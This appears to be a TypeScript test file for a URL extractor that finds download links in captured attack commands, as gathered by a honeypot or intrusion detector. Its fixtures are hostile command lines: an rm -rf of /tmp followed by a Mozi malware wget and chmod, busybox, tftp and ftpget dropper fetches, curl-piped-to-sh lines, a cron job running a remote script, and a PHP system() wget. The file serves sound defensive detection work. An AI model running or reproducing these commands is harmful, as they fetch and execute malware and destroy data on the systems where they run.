import { expect, it } from 'vitest';
import { findDownloads } from './downloads.ts';

it.each<[string, string[]]>([
  ['cd+/tmp;rm+-rf+*;wget+http://192.0.2.1:80/Mozi.a;chmod+777+Mozi.a', ['http://192.0.2.1:80/Mozi.a']],
  ['`busybox wget http://192.0.2.1/gpon80 -O /tmp/gaf;sh /tmp/gaf`', ['http://192.0.2.1/gpon80']],
  ['tftp -g -l x -r /a/b 192.0.2.1', ['tftp://192.0.2.1/a/b']],
  ['tftp 192.0.2.1 -c get tftp1.sh', ['tftp://192.0.2.1/tftp1.sh']],
  ['ftpget -u anonymous -p x 192.0.2.1 ftp1.sh ftp1.sh', ['ftp://192.0.2.1/ftp1.sh']],
  ['\n*/2 * * * * root cd1 -fsSL http://192.0.2.9/b.sh | sh\n', ['http://192.0.2.9/b.sh']],
  ['curl 192.0.2.1/x | sh', ['http://192.0.2.1/x']],
  ['<?php system("wget example.test/p.sh"); ?>', ['http://example.test/p.sh']],
  ['nothing to see; wget; curl --help', []],
  ['q=hello world', []],
])('%j', (text, urls) => {
  expect(findDownloads(text).map(({ url }) => url)).toEqual(urls);
});
